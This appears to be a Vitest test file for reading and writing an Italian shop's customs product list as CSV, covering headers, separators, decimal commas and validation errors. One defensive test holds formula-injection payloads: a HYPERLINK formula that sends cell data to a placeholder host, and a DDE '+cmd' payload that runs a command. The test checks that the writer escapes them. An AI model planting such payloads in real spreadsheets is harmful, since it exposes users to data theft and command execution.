// The shop's product list as a spreadsheet (issue 30): read with Italian or English headers, `;` or `,`, a BOM,
// decimal commas; each wrong line named by its line and column and left out, the good ones kept; written back as
// Italian Excel opens it, and read again the same.
import { describe, expect, it } from 'vitest';
import { readProductFile, writeProductFile } from '../../../src/orderFiles/productFile';

const bytes = (text: string) => new TextEncoder().encode(text);

const ITALIAN = [
  'SKU;Descrizione doganale (EN);Codice HS;Origine;Peso netto (kg);Valore unitario;Valuta',
  'TAZZA-01;Ceramic mug;6911.10.00;IT;0,35;12,50;EUR',
  'BORSA-02;Leather handbag;4202 21;it;0,8;;',
].join('\r\n');

describe('the product list file', () => {
  it('reads Italian headers with `;`, decimal commas, and the HS code and origin as kept', async () => {
    const file = await readProductFile(bytes(ITALIAN));
    expect(file.errors).toEqual([]);
    expect(file.products).toEqual([
      {
        line: 2,
        product: {
          sku: 'TAZZA-01',
          description: 'Ceramic mug',
          hs_code: '69111000',
          origin: 'IT',
          unit_weight: 0.35,
          unit_value: 12.5,
          currency: 'EUR',
        },
      },
      {
        line: 3,
        product: {
          sku: 'BORSA-02',
          description: 'Leather handbag',
          hs_code: '420221',
          origin: 'IT',
          unit_weight: 0.8,
          unit_value: 0,
          currency: '',
        },
      },
    ]);
  });

  it('reads English headers with `,` after a byte-order mark, in any column order', async () => {
    const text =
      '\uFEFFHS code,SKU,Country of origin,Net weight (kg),Customs description,Unit value,Currency\n' +
      '"610910",TS-9,PT,"0,2",Cotton T-shirt,15,CHF\n';
    const file = await readProductFile(bytes(text));
    expect(file.errors).toEqual([]);
    expect(file.products.map((l) => l.product)).toEqual([
      {
        sku: 'TS-9',
        description: 'Cotton T-shirt',
        hs_code: '610910',
        origin: 'PT',
        unit_weight: 0.2,
        unit_value: 15,
        currency: 'CHF',
      },
    ]);
  });

  it("reads an HS code and a weight kept as text with a spreadsheet's apostrophe ('090111) as numbers", async () => {
    const text =
      "SKU;Descrizione doganale (EN);Codice HS;Origine;Peso netto (kg)\r\nCAFFE-1;Coffee;'090111;IT;'0,25\r\n";
    const file = await readProductFile(bytes(text));
    expect(file.errors).toEqual([]);
    expect(file.products[0]?.product).toMatchObject({ sku: 'CAFFE-1', hs_code: '090111', unit_weight: 0.25 });
  });

  it('names each wrong line by line and column and keeps the good ones', async () => {
    const text = [
      'SKU;Descrizione doganale (EN);Codice HS;Origine;Peso netto (kg);Valore unitario;Valuta',
      'A-1;Mug;691110;IT;0,3;;',
      'A-2;Plate;0000;XX;abc;-1;EURO',
      ';Bowl;691110;IT;0,3;;',
      'a-1 ;Mug again;691110;IT;0,3;;',
      'A-3;Cup;691110;IT;0,1;;',
    ].join('\n');
    const file = await readProductFile(bytes(text));
    expect(file.products.map((l) => [l.line, l.product.sku])).toEqual([
      [2, 'A-1'],
      [6, 'A-3'],
    ]);
    expect(file.errors.map((e) => [e.line, e.column, e.issue.code])).toEqual([
      [3, 'Codice HS', 'hsCode'],
      [3, 'Origine', 'country'],
      [3, 'Peso netto (kg)', 'number'],
      [3, 'Valore unitario', 'nonNegative'],
      [3, 'Valuta', 'currency'],
      [4, 'SKU', 'required'],
      [5, 'SKU', 'unique'],
    ]);
  });

  it('refuses a file without a SKU column at its header line', async () => {
    const file = await readProductFile(bytes('Nome;Prezzo\nTazza;3\n'));
    expect(file.products).toEqual([]);
    expect(file.errors.map((e) => [e.line, e.column, e.issue.code])).toEqual([[1, 'SKU', 'required']]);
  });

  it('writes Italian headers, `;` and decimal commas after a BOM, and reads its own file back the same', async () => {
    const products = (await readProductFile(bytes(ITALIAN))).products.map((l) => l.product);
    const text = writeProductFile(products);
    expect(text.split('\r\n')).toEqual([
      '\uFEFFSKU;Descrizione doganale (EN);Codice HS;Origine;Peso netto (kg);Valore unitario;Valuta',
      'TAZZA-01;Ceramic mug;69111000;IT;0,35;12,5;EUR',
      'BORSA-02;Leather handbag;420221;IT;0,8;;',
      '',
    ]);
    expect((await readProductFile(bytes(text))).products.map((l) => l.product)).toEqual(products);
  });

  it('writes a text a spreadsheet would run after an apostrophe, quoted, and reads it back as it was', async () => {
    const product = (sku: string, description: string) => ({
      sku,
      description,
      hs_code: '691110',
      origin: 'IT',
      unit_weight: 0.3,
      unit_value: 0,
      currency: '',
    });
    const products = [
      product('=HYPERLINK("http://x.example/?"&A1;"Clic")', "+cmd|'/C calc'!A0"),
      product('-2+3', '@SUM(A1:A9)'),
      product("'=1+1", "'quoted on purpose"),
      product('+39-12', 'Mug - blue'),
    ];
    const text = writeProductFile(products);
    expect(text.split('\r\n').slice(1, 5)).toEqual([
      `"'=HYPERLINK(""http://x.example/?""&A1;""Clic"")";"'+cmd|'/C calc'!A0";691110;IT;0,3;;`,
      `"'-2+3";"'@SUM(A1:A9)";691110;IT;0,3;;`,
      `"''=1+1";"''quoted on purpose";691110;IT;0,3;;`,
      `"'+39-12";Mug - blue;691110;IT;0,3;;`,
    ]);
    const again = await readProductFile(bytes(text));
    expect(again.errors).toEqual([]);
    expect(again.products.map((l) => l.product)).toEqual(products);
  });

  it('refuses a description the customs invoice cannot print, naming the characters', async () => {
    const text = 'SKU;Descrizione doganale (EN);Codice HS;Origine;Peso netto (kg)\nT-1;茶杯 Tea cup;691110;CN;0,2\n';
    const file = await readProductFile(bytes(text));
    expect(file.products).toEqual([]);
    expect(file.errors.map((e) => [e.line, e.column, e.issue.code, e.issue.value])).toEqual([
      [2, 'Descrizione doganale (EN)', 'unprintable', '茶杯'],
    ]);
  });
});
